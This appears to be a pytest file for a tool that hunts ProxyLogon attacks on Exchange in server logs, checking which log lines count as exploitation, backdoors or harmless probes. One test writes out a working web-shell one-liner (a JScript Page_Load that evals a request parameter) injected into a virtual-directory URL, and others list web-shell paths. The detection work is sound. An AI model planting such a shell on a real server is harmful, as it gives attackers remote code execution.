"""Checks against real attack lines, and the false-positive traps users reported."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from exhunt.model import Finding, RecordKind, Severity, Stage

Judge = Callable[[RecordKind, Path], list[Finding]]


def by_check(findings: list, check: str) -> list:  # type: ignore[type-arg]
    return [f for f in findings if f.check == check]


def test_successful_chain_is_exploitation_and_reset_is_a_backdoor(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.HTTPPROXY, data / "HttpProxy_Ecp_exploit.LOG")
    ssrf = by_check(found, "proxylogon.ssrf")
    assert len(ssrf) == 1, "one finding per attacker chain, not per line"
    chain = ssrf[0]
    assert chain.stage is Stage.EXPLOIT and chain.client_ip == "203.0.113.21"
    # A chain that got through began with its first answered step: the autodiscover leak.
    assert chain.timestamp.isoformat().startswith("2021-03-03T06:49:42.162")
    assert "proxylogon.ecp" in chain.evidence and "HTTP 241" in chain.evidence
    resets = by_check(found, "proxylogon.vdir-reset")
    assert [r.stage for r in resets] == [Stage.BACKDOOR]
    assert resets[0].timestamp.isoformat().startswith("2021-03-03T06:59:20")


def test_scanner_probe_and_failed_attempt_stay_probes(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.HTTPPROXY, data / "HttpProxy_Owa_probes.LOG")
    ssrf = by_check(found, "proxylogon.ssrf")
    assert {f.stage for f in ssrf} == {Stage.PROBE}
    titles = {f.client_ip: f.title for f in ssrf}
    assert "scanner" in titles["[REDACTED]"].lower()  # nmap script, target localhost
    assert "failed" in titles["198.51.100.7"].lower()  # autodiscover only, answered 500


def test_autodiscover_answered_alone_is_not_exploitation(judge: Judge, data: Path, tmp_path: Path) -> None:
    # Autodiscover-only chains are failed attempts (CSS-Exchange #306), even when answered 200.
    lines = (data / "HttpProxy_Ecp_exploit.LOG").read_text().splitlines(keepends=True)
    head = [ln for ln in lines if ln.startswith("#")]
    only_first = [ln for ln in lines if "autodiscover.xml" in ln]
    log = tmp_path / "x.LOG"
    log.write_text("".join(head + only_first))
    found = by_check(judge(RecordKind.HTTPPROXY, log), "proxylogon.ssrf")
    assert [f.stage for f in found] == [Stage.PROBE]


def test_script_in_a_virtual_directory_url_but_not_an_admins_url(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.ECP_SERVER, data / "ECPServer_attack.LOG")
    scripted = by_check(found, "proxylogon.vdir-script")
    assert len(scripted) == 1, "the admin's https ExternalUrl and the $null reset are benign"
    assert scripted[0].stage is Stage.EXPLOIT
    assert "Page_Load" in scripted[0].evidence and "klk123456" in scripted[0].evidence


def test_oab_download_outside_its_folder_names_the_shell(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.OAB_GENERATOR, data / "OABGeneratorLog_attack.LOG")
    assert len(found) == 1, "the failed download inside ClientAccess\\OAB is benign (CSS-Exchange #386)"
    assert found[0].stage is Stage.BACKDOOR
    assert found[0].webshell_path == "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\Xk3TqwE9.aspx"


def test_iis_trail(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.IIS, data / "u_ex210305.log")
    posts = by_check(found, "iis.attack-post")
    assert [(f.client_ip, f.stage) for f in posts] == [("203.0.113.21", Stage.EXPLOIT)]
    used = by_check(found, "webshell.request")
    reentry = sorted(f.webshell_path for f in used if f.stage is Stage.REENTRY)
    # The look-alike of RedirSuiteServiceProxy.aspx, and a shell reached after a #Fields change.
    assert reentry == ["/aspnet_client/system_web/Xk3TqwE9.aspx",
                       "/owa/auth/RedirSuiteServerProxy.aspx"]
    looked = [f for f in used if f.stage is Stage.PROBE]
    assert [f.client_ip for f in looked] == ["198.51.100.99"]
    assert by_check(found, "iis.tool-agent")[0].client_ip == "203.0.113.77"  # antSword
    # The product's own logon page is never a shell.
    assert not any("logon.aspx" in (f.webshell_path or "") for f in found)


def test_findings_carry_the_contract_fields(judge: Judge, data: Path) -> None:
    found = judge(RecordKind.HTTPPROXY, data / "HttpProxy_Ecp_exploit.LOG")
    for finding in found:
        data_ = finding.to_json()
        assert set(data_) == {"check", "title", "severity", "stage", "cves", "timestamp",
                              "artifact", "line", "evidence", "client_ip", "webshell_path",
                              "account"}
        assert data_["severity"] in {s.label for s in Severity}
        assert data_["line"] and data_["line"] > 5  # after the header block


def test_shell_locations_by_url() -> None:
    from exhunt.checks.iis import is_shell_location

    for shell in ("/aspnet_client/system_web/a.aspx", "/owa/auth/OutlookEN.aspx",
                  "/ecp/auth/errorcheck.aspx", "/owa/auth/Current/themes/resources/win.ashx",
                  "/OAB/log.aspx", "/shell.aspx"):
        assert is_shell_location(shell), shell
    for product in ("/owa/auth/logon.aspx", "/ecp/default.aspx", "/EWS/Exchange.asmx",
                    "/ecp/PersonalSettings/HomePage.aspx", "/owa/auth/x.js", "/owa/"):
        assert not is_shell_location(product), product


def test_script_in_a_vdir_url_without_csv_quoting_is_still_seen(judge: Judge, tmp_path: Path) -> None:
    # As the helsecert write-up shows the line: EventData not wrapped in CSV quotes, so its
    # commas split it into extra columns that the reader must join back.
    log = tmp_path / "ECPServer20210303-1.LOG"
    log.write_text(
        "#Fields: TimeStamp,ServerName,EventId,EventData\n"
        "2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,S:TIME=4365;'S:CMD=Set-OabVirtualDirectory."
        "ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function "
        "Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity="
        "''982d48c8''';S:REQID=;S:EX=\n")
    found = by_check(judge(RecordKind.ECP_SERVER, log), "proxylogon.vdir-script")
    assert [f.stage for f in found] == [Stage.EXPLOIT]
    assert "klk123456" in found[0].evidence
